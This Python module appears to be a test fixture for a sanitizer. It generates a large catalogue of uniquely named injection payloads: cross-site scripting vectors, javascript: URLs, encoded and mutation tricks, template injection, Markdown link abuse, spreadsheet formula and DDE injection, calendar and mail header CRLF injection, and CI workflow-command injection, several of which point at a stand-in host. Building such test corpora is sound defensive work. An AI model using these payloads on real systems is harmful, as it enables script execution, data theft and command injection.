"""Texts that try to run a script: each would call `ran`, or ask another site, with its own name.

Without digits where they do not need them: every number of a report must be accounted for.
"""

from __future__ import annotations

from itertools import product
from string import ascii_lowercase

# NAME stands for the payload's name, between slashes where it is a script: no quotation marks.
ELEMENTS = (
    "<script>ran(/NAME/)</script>",
    "<ScRiPt >ran(/NAME/)</ScRiPt >",
    "<script src=//elsewhere.invalid/NAME></script>",
    "<script src=data:,ran(/NAME/)></script>",
    "<img src=x onerror=ran(/NAME/)>",
    "<img/src=x/onerror=ran(/NAME/)>",
    "<img src=//elsewhere.invalid/NAME>",
    "<image src=x onerror=ran(/NAME/)>",
    "<img srcset='//elsewhere.invalid/NAME x'>",
    "<picture><source srcset=//elsewhere.invalid/NAME><img></picture>",
    "<svg onload=ran(/NAME/)>",
    "<svg/onload=ran(/NAME/)//",
    "<svg><script>ran(/NAME/)</script></svg>",
    "<svg><script xlink:href=data:,ran(/NAME/) /></svg>",
    "<svg><a xlink:href=javascript:ran(/NAME/)><text>x</text></a></svg>",
    "<svg><animate onbegin=ran(/NAME/) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=ran(/NAME/)>",
    "<svg><use href=data:image/svg+xml,<svg/onload=ran(/NAME/)>>",
    "<math><maction actiontype=statusline xlink:href=javascript:ran(/NAME/)>x</maction></math>",
    "<math href=javascript:ran(/NAME/)>x</math>",
    "<iframe src=javascript:ran(/NAME/)></iframe>",
    "<iframe srcdoc='<script>parent.ran(/NAME/)</script>'></iframe>",
    "<object data=javascript:ran(/NAME/)></object>",
    "<embed src=javascript:ran(/NAME/)>",
    "<input autofocus onfocus=ran(/NAME/)>",
    "<details open ontoggle=ran(/NAME/)>x</details>",
    "<audio src=x onerror=ran(/NAME/)>",
    "<video><source onerror=ran(/NAME/)></video>",
    "<body onload=ran(/NAME/) onpageshow=ran(/NAME/)>",
    "<marquee onstart=ran(/NAME/)>x</marquee>",
    "<form><button formaction=javascript:ran(/NAME/)>x</button></form>",
    "<isindex action=javascript:ran(/NAME/) type=image>",
    "<base href=//elsewhere.invalid/NAME/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(/NAME/)'>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.invalid/NAME'>",
    "<link rel=stylesheet href=//elsewhere.invalid/NAME>",
    "<link rel=prefetch href=//elsewhere.invalid/NAME>",
)
STYLES = (
    "<style>@import'//elsewhere.invalid/NAME';</style>",
    "<style>*{background:url(//elsewhere.invalid/NAME)}</style>",
    "<p style='background:url(//elsewhere.invalid/NAME)'>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=ran(/NAME/)>",
    "</style><script>ran(/NAME/)</script>",
)
ATTRIBUTES = (
    '" autofocus onfocus=ran(/NAME/) x="',
    "' autofocus onfocus=ran(/NAME/) x='",
    " autofocus onfocus=ran(/NAME/) x=",
    '"><script>ran(/NAME/)</script>',
    "'><script>ran(/NAME/)</script>",
    "><script>ran(/NAME/)</script>",
    '" style="background:url(//elsewhere.invalid/NAME)',
    "` onerror=ran(/NAME/) `",
    "/>\n<script>ran(/NAME/)</script>",
)
SCRIPTS = (
    "</script><script>ran(/NAME/)</script>",
    "<!--<script>ran(/NAME/)</script>",
    "--><script>ran(/NAME/)</script><!--",
    "--!><script>ran(/NAME/)</script>",
    "]]><script>ran(/NAME/)</script>",
    '"];ran(/NAME/);["',
    "'];ran(/NAME/);['",
    '"+ran(/NAME/)+"',
    "'-ran(/NAME/)-'",
    "${ran(/NAME/)}",
    '\\"];ran(/NAME/)//',
    "\\x3cscript\\x3eran(/NAME/)\\x3c/script\\x3e",
    "\\u003cscript\\u003eran(/NAME/)\\u003c/script\\u003e",
    "{{''.__class__.__mro__}}<script>ran(/NAME/)</script>",
    "{{constructor.constructor('ran(/NAME/)')()}}",
    "{% raw %}<script>ran(/NAME/)</script>{% endraw %}",
    "{{ '<script>ran(/NAME/)</script>' | safe }}",
    "#{ran(/NAME/)}",
    "<%= ran(/NAME/) %>",
)
ADDRESSES = (
    "javascript:ran(/NAME/)",
    "JaVaScRiPt:ran(/NAME/)",
    " javascript:ran(/NAME/)",
    "java\tscript:ran(/NAME/)",
    "java\nscript:ran(/NAME/)",
    "javascript&colon;ran(/NAME/)",
    "java&Tab;script&colon;ran&lpar;/NAME/&rpar;",
    "&#106;avascript:ran(/NAME/)",
    "javascript://%0aran(/NAME/)",
    "javascript://example.org/%0d%0aran(/NAME/)//",
    "vbscript:ran(/NAME/)",
    "data:text/html,<script>opener.ran(/NAME/)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oL05BTUUvKTwvc2NyaXB0Pg==NAME",
    "file:///NAME",
    "//elsewhere.invalid/NAME",
    "\\\\elsewhere.invalid\\NAME",
    "https:elsewhere.invalid/NAME",
    "http://user:secret@elsewhere.invalid/NAME",
    "view-source:javascript:ran(/NAME/)",
    "blob:ran(/NAME/)",
)
LINKS = (
    "[x](javascript:ran(/NAME/))",
    "[x](<javascript:ran(/NAME/)>)",
    "<javascript:ran(/NAME/)>",
    "[x](data:text/html,<script>ran(/NAME/)</script>)",
    "![x](//elsewhere.invalid/NAME)",
    "[x](vbscript:ran(/NAME/))",
    "[x](java&Tab;script:ran(/NAME/))",
    "[x](javascript&colon;ran(/NAME/))",
    "[x][NAME]\n\n[NAME]: javascript:ran(/NAME/)",
    "![x](data:image/svg+xml,<svg/onload=ran(/NAME/)>)",
    "[x](//elsewhere.invalid/NAME)",
    "[x](\\\\elsewhere.invalid/NAME)",
)
MARKDOWN = (
    '![x"onerror=ran(/NAME/) x="](assets/icon.svg)',
    "`<script>ran(/NAME/)</script>`",
    "```\n</code></pre><script>ran(/NAME/)</script>\n```",
    '~~~"onmouseover=ran(/NAME/)\nx\n~~~',
    "\n\n<script>\nran(/NAME/)\n</script>\n\n",
    "\n\n<!-- x --><script>ran(/NAME/)</script>\n\n",
    "\n\n<?x ?><script>ran(/NAME/)</script>\n\n",
    "\n\n<![CDATA[<script>ran(/NAME/)</script>]]>\n\n",
    "|x|\n|-|\n|<script>ran(/NAME/)</script>|\n",
    '<https://x"onmouseover="ran(/NAME/)>',
)
DISGUISES = (
    "&lt;script&gt;ran(/NAME/)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;ran(/NAME/)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;ran(/NAME/)&#60;/script&#62;",
    "%3Cscript%3Eran(/NAME/)%3C/script%3E",
    "+ADw-script+AD4-ran(/NAME/)+ADw-/script+AD4-",
    "＜script＞ran(/NAME/)＜/script＞",
    "\u2039script\u203aran(/NAME/)\u2039/script\u203a",
    "<\u017fcript>ran(/NAME/)</\u017fcript>",
    "<scr<script>ipt>ran(/NAME/)</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=ran(/NAME/)>'>",
    "<textarea><p title='</textarea><img src=x onerror=ran(/NAME/)>'>",
    "<title><p title='</title><img src=x onerror=ran(/NAME/)>'>",
    "<template><script>ran(/NAME/)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=ran(/NAME/)></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=ran(/NAME/)>'>",
    "<svg></p><style><a title='</style><img src=x onerror=ran(/NAME/)>'>",
    "<xmp><p title='</xmp><img src=x onerror=ran(/NAME/)>'>",
    "<select><iframe><script>ran(/NAME/)</script></iframe></select>",
    "<plaintext>",
)
# in a spreadsheet, a calendar, a mail, a terminal, a log of GitHub's
FORMATS = (
    '=HYPERLINK("//elsewhere.invalid/NAME")',
    "+cmd|' /C calc'!NAME",
    "-NAME+NAME",
    "@SUM(NAME)",
    '=WEBSERVICE("//elsewhere.invalid/NAME")',
    "\tNAME",
    "x\r\nATTACH:javascript:ran(/NAME/)\r\nEND:VEVENT",
    "x\\nEND:VCALENDAR",
    "%0d%0aBcc: NAME@elsewhere.invalid",
    "\n::error file=NAME::x",
    "%0A::set-output name=NAME::x",
)
PATTERNS = (
    *LINKS, *ELEMENTS, *STYLES, *ATTRIBUTES, *SCRIPTS, *ADDRESSES, *MARKDOWN, *DISGUISES, *FORMATS,
)  # fmt: skip
NAMES = tuple("q" + "".join(letters) for letters in product(ascii_lowercase, repeat=2))
PAYLOADS = tuple(
    pattern.replace("NAME", name) for pattern, name in zip(PATTERNS, NAMES, strict=False)
)
MARKDOWN_LINKS = PAYLOADS[: len(LINKS)]

# What no text may hold, so that these are refused wherever they stand.
UNFIT = (
    "<scr\0ipt>ran(/x/)</scr\0ipt>",
    "\x1b]0;x\x07",
    "\x9b31m",
    "<script\x0c>ran(/x/)</script>",
    "\u202e>tpircs<",
    "\u2066x\u2069",
    "\ufffe<script>",
    "\U0001ffff",
    "\U000e0041",
)


def rotated(turn: int, most: int = len(PAYLOADS)) -> tuple[str, ...]:
    """So many of them, begun with another each time: none hides the others for ever."""
    turn = turn * 47 % len(PAYLOADS)
    return (PAYLOADS[turn:] + PAYLOADS[:turn])[:most]
